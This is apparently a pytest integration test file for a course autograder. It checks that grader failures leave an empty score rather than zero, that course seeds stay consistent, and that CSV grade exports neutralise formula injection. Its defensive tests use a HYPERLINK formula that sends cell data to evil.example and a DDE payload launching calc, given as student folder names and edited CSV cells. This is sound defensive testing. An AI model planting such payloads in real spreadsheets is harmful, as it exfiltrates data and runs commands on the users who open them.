"""Issue 15: the grader's failures are never the student's score (§1), grade files are data
(§4), the same course gives the same inputs (§5). Real sandbox, real CLI, real files."""
import csv
import io
import json
import os
from pathlib import Path

import nbformat
import pytest

from autograder import grading_error, preflight
from autograder.batch import derive_seed, discover
from autograder.checks import checks_for
from autograder.grader_fault import GraderFault
from autograder.reporters.cells import parse_timestamp, safe_cell
from tests.integrations.helpers import NNGRADE, put, reference_notebook, run, submitted_tree

AID = "01_perceptron"
MNIST_AID = "06_mnist"
NO_MNIST = {"NNLAB_MNIST": "/nonexistent/mnist.npz"}
ATTACKER = '=HYPERLINK("http:"&REPT(CHAR(47),2)&"evil.example?s="&C2,"open")'


def blank_mnist(path):
    """A Keras-layout MNIST file of the right shapes (all zeros): what the grader validates,
    without depending on the real download."""
    import numpy as np
    np.savez_compressed(path, x_train=np.zeros((60000, 28, 28), np.uint8),
                        y_train=np.zeros(60000, np.uint8), x_test=np.zeros((10000, 28, 28),
                                                                           np.uint8),
                        y_test=np.zeros(10000, np.uint8))
    return path


def rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def full_marks(aid=AID):
    return f"{sum(c.points for c in checks_for(aid)):g}"


# -- §1: missing MNIST -----------------------------------------------------------------------------
def test_missing_mnist_is_a_grading_error_with_exit_4_and_an_empty_score(tmp_path):
    path = put(tmp_path / "sub", MNIST_AID, "reference")
    proc = run(NNGRADE + ["grade", str(path), "--format", "csv", "--seed", "1", "--lang", "en"],
               env=NO_MNIST)
    assert proc.returncode == grading_error.EXIT_CODE == 4, proc.stderr
    (row,) = rows(proc.stdout)
    assert row["score"] == "" and row["max_score"] == full_marks(MNIST_AID)
    assert row["error"].startswith("grading error: the grader has no MNIST file")
    assert "set NNLAB_MNIST" in row["error"] and row["failed_checks"] == ""
    lines = proc.stderr.strip().splitlines()  # one line saying what to fix
    assert len(lines) == 1 and "set NNLAB_MNIST" in lines[0] and "06_mnist" in lines[0]
    print("missing-MNIST grade: exit", proc.returncode, "CSV row:", proc.stdout.splitlines()[1])


def test_missing_mnist_check_exits_4_in_korean_too(tmp_path):
    folder = tmp_path / MNIST_AID
    put(folder, MNIST_AID, "reference")
    proc = run(NNGRADE + ["check", MNIST_AID, "--dir", str(folder)], env=NO_MNIST)
    assert proc.returncode == 4 and "채점 오류" in proc.stderr and "NNLAB_MNIST" in proc.stderr
    assert "/ 90" in proc.stdout and " 0 / 90" not in proc.stdout  # no score, never 0


def test_unreadable_mnist_file_is_a_grading_error(tmp_path):
    bad = tmp_path / "mnist.npz"
    bad.write_bytes(b"not a zip file")
    with pytest.raises(GraderFault) as fault:
        preflight.mnist_file(str(bad))
    assert fault.value.key == "grading_error.mnist_unreadable"
    assert fault.value.fields["path"] == str(bad.resolve())


def test_batch_refuses_a_class_run_without_mnist_before_grading_anyone(tmp_path):
    course = submitted_tree(tmp_path / "course", {"amy": "reference", "ben": "reference"},
                            assignment=MNIST_AID)
    out = tmp_path / "grades.csv"
    proc = run(NNGRADE + ["batch", str(course), "--seed", "1", "--out", str(out), "--lang",
                          "en", "-q"], env=NO_MNIST)
    assert proc.returncode == 3 and not out.exists(), proc.stderr
    assert "not starting: every student's 06_mnist would be a grading error" in proc.stderr
    assert "set NNLAB_MNIST" in proc.stderr


def test_grade_of_a_folder_refuses_up_front_too(tmp_path):
    put(tmp_path / "sub" / MNIST_AID, MNIST_AID, "reference")
    put(tmp_path / "sub" / AID, AID, "reference")
    proc = run(NNGRADE + ["grade", str(tmp_path / "sub"), "--lang", "en"], env=NO_MNIST)
    assert proc.returncode == 3 and "set NNLAB_MNIST" in proc.stderr and not proc.stdout


# -- §1: one student's grader fault, in a batch ----------------------------------------------------
@pytest.fixture(scope="module")
def faulted_batch(tmp_path_factory):
    """amy, cid: 01 reference; bob: 06 with a grader that has no MNIST for his job only
    (tests/integrations/crashy_grader.py:no_mnist_for_bob, the real pipeline otherwise)."""
    root = tmp_path_factory.mktemp("faulted")
    course = submitted_tree(root / "course", {"amy": "reference", "cid": "reference"})
    submitted_tree(root / "course", {"bob": "reference"}, assignment=MNIST_AID)
    out = root / "grades.csv"
    mnist = blank_mnist(root / "mnist.npz")  # the preflight passes; bob's job has none
    proc = run(NNGRADE + ["batch", str(course), "-j", "2", "--seed", "7", "--out", str(out),
                          "--lang", "en", "-q", "--mnist", str(mnist),
                          "--grader", "tests.integrations.crashy_grader:no_mnist_for_bob"])
    return proc, out, root


@pytest.mark.slow  # the batch's preflight imports TensorFlow in a clean sandbox (~6 CPU s)
def test_a_grader_fault_in_one_student_leaves_the_others_alone(faulted_batch):
    proc, out, root = faulted_batch
    assert proc.returncode == 4, proc.stderr
    table = {r["student"]: r for r in rows(out.read_text())}
    for good in ("amy", "cid"):
        assert table[good]["score"] == full_marks() and table[good]["error"] == ""
    bob = table["bob"]
    assert bob["score"] == "" and bob["error"].startswith("grading error: the grader has no MNIST")
    assert "bob/06_mnist: grading error" in proc.stderr
    data = json.loads((root / "results" / "bob" / "results.json").read_text())
    assert "score" not in data and "06_mnist" in data["extra_data"]["grading_errors"]
    assert all("score" not in t for t in data["tests"])


def test_a_faulted_job_is_retried_once(tmp_path):
    from autograder.batch import run_batch
    course = submitted_tree(tmp_path / "course", {"bob": "reference"}, assignment=MNIST_AID)
    jobs = discover(course, seed=1)
    (outcome,) = run_batch(jobs, 1, grader="tests.integrations.crashy_grader:no_mnist_for_bob")
    assert outcome.attempts == 2 and outcome.result.score is None
    assert outcome.result.error[0] == "grading_error.mnist_missing"


# -- §1: classification ----------------------------------------------------------------------------
def test_a_full_disk_and_memory_are_the_hosts_failures():
    with pytest.raises(OSError) as full:
        with open("/dev/full", "w") as fh:  # the kernel's always-full device: real ENOSPC
            fh.write("x")
            fh.flush()
    fault = grading_error.classify(full.value)
    assert fault.key == "grading_error.host_disk"
    assert grading_error.classify(MemoryError()).key == "grading_error.host_memory"
    assert grading_error.classify(ValueError("a student's value")) is None
    assert grading_error.classify(FileNotFoundError(2, "gone")) is None


def test_a_module_missing_in_a_clean_sandbox_is_the_graders_and_numpy_works():
    fault = preflight.clean_sandbox_fault("no_such_module_nngrade", public_only=True)
    assert fault.key == "grading_error.import_failed" and "ModuleNotFoundError" in \
        fault.fields["error"]
    assert preflight.clean_sandbox_fault("numpy", public_only=True) is None


def test_a_student_breaking_numpy_keeps_their_score_not_a_grading_error(tmp_path):
    """The clean sandbox imports numpy: the student's own ImportError is theirs (a 0 they
    earned), whatever the child reports."""
    path = tmp_path / f"{AID}.py"
    path.write_text("import sys\nsys.modules['numpy'] = None\nimport numpy as np\n\n"
                    "def step(x):\n    return np.where(x >= 0, 1, 0)\n")
    proc = run(NNGRADE + ["grade", str(path), "--assignment", AID, "--format", "csv",
                          "--seed", "1"])
    (row,) = rows(proc.stdout)
    assert proc.returncode == 0 and row["score"] == "0" and row["error"] == "", proc.stderr


# -- §1: every reporter ----------------------------------------------------------------------------
def faulted(aid=MNIST_AID):
    from autograder.results import AssignmentResult
    result = AssignmentResult(aid, None, seed=3)
    return grading_error.mark(result, checks_for(aid),
                              GraderFault("grading_error.mnist_missing", error="no file"))


@pytest.mark.parametrize("lang,word", [("en", "grading error"), ("ko", "채점 오류")])
def test_every_reporter_shows_the_error_and_no_number(lang, word):
    from autograder.cli import render
    from autograder.reporters.classroom import to_dict as classroom
    from autograder.reporters.gradescope import to_dict as gradescope
    res = faulted()
    text = render([res], "text", lang, 1.0)
    assert word in text and " 0 / 100" not in text and "- / 100" in text
    data = gradescope([res], lang)
    assert "score" not in data and all("score" not in t for t in data["tests"])
    assert all(t["output"].startswith(word) for t in data["tests"])
    junit = render([res], "junit", lang, 1.0)
    assert 'errors="5"' in junit and 'name="score"' not in junit and word in junit
    room = classroom([res], lang)
    assert room["status"] == "error" and room["max_score"] == 0
    assert all(t["status"] == "error" and t["max_score"] == 0 for t in room["tests"])
    (row,) = rows(render([res], "csv", lang, 1.0))
    assert row["score"] == "" and row["error"].startswith("grading error")


def test_nbgrader_csv_and_class_report_leave_the_score_empty(tmp_path):
    from autograder.batch import Job, JobOutcome
    from autograder.integrations import class_report
    from autograder.reporters.nbgrader_csv import report_outcomes
    job = Job("amy", MNIST_AID, None, 3)
    (row,) = rows(report_outcomes([JobOutcome(job, faulted())]))
    assert row["raw_score"] == row["score"] == "" and row["max_score"] == "100"
    grades = tmp_path / "grades.csv"
    from autograder.reporters.csv_rows import report_outcomes as batch_csv
    from autograder.results import AssignmentResult, CheckResult
    fine = AssignmentResult(MNIST_AID, None, checks=[CheckResult("x", 100, 50.0, False, "k")])
    grades.write_text(batch_csv([JobOutcome(job, faulted()),
                                 JobOutcome(Job("ben", MNIST_AID, None, 4), fine)]))
    summary = class_report.summarize(class_report.load(grades))[MNIST_AID]
    assert summary["n"] == 2 and summary["errors"] == 1
    assert summary["mean"] == summary["min"] == 50.0  # the grading error is not a 0


def test_gradescope_run_shows_students_a_notice_and_the_instructor_the_reason(tmp_path,
                                                                               monkeypatch,
                                                                               capsys):
    from autograder.integrations.gradescope_run import run as gs_run
    from autograder.integrations.gradescope_zip import CONFIG_NAME
    source, submission = tmp_path / "source", tmp_path / "submission"
    source.mkdir()
    (source / CONFIG_NAME).write_text(json.dumps({"assignment": MNIST_AID, "lang": "en"}))
    reference_notebook(MNIST_AID, submission / f"{MNIST_AID}.ipynb")
    monkeypatch.setenv("NNLAB_MNIST", NO_MNIST["NNLAB_MNIST"])
    data = gs_run(source, submission, tmp_path / "results")
    assert data["output"].startswith("grading error — the grader could not grade")
    assert "instructor has been notified" in data["output"] and "score" not in data
    assert data["stdout_visibility"] == "hidden"
    assert "06_mnist: grading error: the grader has no MNIST file" in capsys.readouterr().out


def test_nbgrader_preprocessor_writes_no_points_for_a_grading_error(tmp_path, monkeypatch):
    from autograder.integrations.nbgrader_autograde import GradingError, SandboxGrade
    nb = nbformat.read(str(reference_notebook(MNIST_AID, tmp_path / "n.ipynb")), as_version=4)
    monkeypatch.setenv("NNLAB_MNIST", NO_MNIST["NNLAB_MNIST"])
    resources = {"nbgrader": {"notebook": MNIST_AID, "assignment": MNIST_AID, "student": "amy",
                              "db_url": f"sqlite:///{tmp_path / 'absent' / 'gradebook.db'}"}}
    with pytest.raises(GradingError, match="grading error: the grader has no MNIST file"):
        SandboxGrade(lang="en").preprocess(nb, resources)
    assert all(not cell.get("outputs") for cell in nb.cells if cell.cell_type == "code")


# -- §4: grade files are data ----------------------------------------------------------------------
def test_safe_cell_and_timestamps():
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", ATTACKER):
        assert safe_cell(bad) == "'" + bad
    for fine in ("alice", "01_perceptron", "", "김철수", "'=already"):
        assert safe_cell(fine) == fine
    assert parse_timestamp("2025-09-01 10:00:00") == "2025-09-01 10:00:00"
    assert parse_timestamp("2025-09-01 10:00:00.123456 UTC") == "2025-09-01 10:00:00.123456"
    assert parse_timestamp("2025-09-01T19:00:00+09:00") == "2025-09-01 10:00:00"
    assert parse_timestamp("2025-09-01 19:00:00 Asia/Seoul") == "2025-09-01 10:00:00"
    for forged in ("=1+2", '=HYPERLINK("x")', "yesterday", "2025-13-01 10:00:00", "2025-09-01 "
                   "10:00:00 Mars/Olympus", "9" * 80, ""):
        assert parse_timestamp(forged) is None


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacked")
    course = submitted_tree(root / "course", {ATTACKER: "reference", "amy": "reference",
                                              "-cmd": "reference"})
    stamps = {ATTACKER: "2025-09-01 10:00:00.5 UTC", "amy": '=HYPERLINK("http://x","due")',
              "-cmd": "2025-09-01T19:00:00+09:00"}
    for student, text in stamps.items():
        (course / "submitted" / student / AID / "timestamp.txt").write_text(text + "\n")
    out = {}
    for fmt in ("csv", "nbgrader-csv"):
        target = root / f"{fmt}.csv"
        proc = run(NNGRADE + ["batch", str(course), "--seed", "5", "--force", "--format", fmt, "--out",
                              str(target), "-q", "--lang", "en"])
        assert proc.returncode == 0, proc.stderr
        out[fmt] = target
    return out


def test_an_attackers_folder_name_and_timestamp_stay_data(attacked):
    table = {r["student"]: r for r in rows(attacked["csv"].read_text())}
    assert set(table) == {"'" + ATTACKER, "amy", "'-cmd"}
    assert table["'" + ATTACKER]["score"] == full_marks()
    assert table["amy"]["error"] == "timestamp.txt is not a timestamp; left empty"
    assert table["amy"]["score"] == full_marks()  # a warning, not a grading error
    nb = {r["student_id"]: r for r in rows(attacked["nbgrader-csv"].read_text())}
    assert nb["'" + ATTACKER]["timestamp"] == "2025-09-01 10:00:00.500000"
    assert nb["amy"]["timestamp"] == ""
    assert nb["'-cmd"]["timestamp"] == "2025-09-01 10:00:00"
    for path in attacked.values():  # no cell anywhere starts a formula
        for row in csv.reader(io.StringIO(path.read_text())):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    print("attacker cells:", attacked["csv"].read_text().splitlines()[1:],
          attacked["nbgrader-csv"].read_text().splitlines()[1:])


def test_merge_neutralises_a_hand_edited_file_and_keeps_ours(attacked, tmp_path):
    from autograder.integrations.merge import merge
    edited = tmp_path / "edited.csv"
    text = attacked["csv"].read_text()
    edited.write_text(text.replace("amy,", "=cmd|' /C calc'!A0,", 1))
    merged = merge([attacked["csv"], edited], prefer_last=True)
    assert merge([attacked["csv"]]) == attacked["csv"].read_text()  # ours: unchanged
    for row in csv.reader(io.StringIO(merged)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    assert "'=cmd|' /C calc'!A0" in merged


# -- §5: the course's base seed --------------------------------------------------------------------
def test_batch_takes_the_base_seed_from_the_courses_nbgrader_config(tmp_path):
    course = submitted_tree(tmp_path / "course", {"amy": "reference"})
    (course / "nbgrader_config.py").write_text(
        "import os\nc = get_config()\nc.SandboxGrade.base_seed = 4242\n"
        "os.environ['NNGRADE_CONFIG_SIDE_EFFECT'] = '1'\n")
    out = tmp_path / "grades.csv"
    proc = run(NNGRADE + ["batch", str(course), "--out", str(out), "-q"])
    assert proc.returncode == 0, proc.stderr
    assert "base seed 4242 from" in proc.stderr and "nbgrader_config.py" in proc.stderr
    (row,) = rows(out.read_text())
    assert row["base_seed"] == "4242" and row["seed"] == str(derive_seed(4242, "amy", AID))
    proc = run(NNGRADE + ["batch", str(course), "--out", str(out), "-q", "--seed", "9", "--force"])
    (row,) = rows(out.read_text())
    assert "base seed 9 from --seed" in proc.stderr and row["base_seed"] == "9"
    assert row["seed"] == str(derive_seed(9, "amy", AID))


def test_the_config_loader_agrees_with_sandboxgrade_and_restores_the_environment(tmp_path):
    from autograder.course_config import DEFAULT_BASE_SEED, CourseConfigError, base_seed
    from autograder.integrations.nbgrader_autograde import SandboxGrade
    (tmp_path / "submitted").mkdir()
    config = tmp_path / "nbgrader_config.py"
    config.write_text("import os\nc = get_config()\nos.environ['NNGRADE_SIDE'] = '1'\n")
    assert base_seed(tmp_path)[0] == DEFAULT_BASE_SEED == SandboxGrade.base_seed.default_value
    assert "NNGRADE_SIDE" not in os.environ
    assert base_seed(tmp_path / "submitted")[0] == DEFAULT_BASE_SEED  # submitted/ given
    config.write_text("c = get_config()\nc.SandboxGrade.base_seed = 'x'\n")
    with pytest.raises(CourseConfigError, match="non-negative integer"):
        base_seed(tmp_path)
    config.write_text("c = get_config()\nraise RuntimeError('broken')\n")
    with pytest.raises(CourseConfigError, match="broken"):
        base_seed(tmp_path)
    assert base_seed(Path("/nonexistent"))[0] is None


@pytest.mark.slow  # the child imports TensorFlow (~7 CPU s)
def test_mnist_from_keras_cache_resolves_in_a_quiet_child(tmp_path, monkeypatch, capfd):
    """No NNLAB_MNIST: Keras' cache (or its download) is asked in a child process, so neither
    TensorFlow's log lines nor Keras' "Downloading data" reach the terminal. Offline (CI) this
    is a grading error naming the failure; online it is the downloaded file."""
    monkeypatch.delenv("NNLAB_MNIST", raising=False)
    monkeypatch.setenv("KERAS_HOME", str(tmp_path))
    try:
        path = preflight.mnist_file()
    except GraderFault as fault:
        assert fault.key == "grading_error.mnist_missing" and fault.fields["error"], fault.fields
    else:
        assert Path(path).is_file()
    out, err = capfd.readouterr()
    assert out == "" and err == "", (out, err)
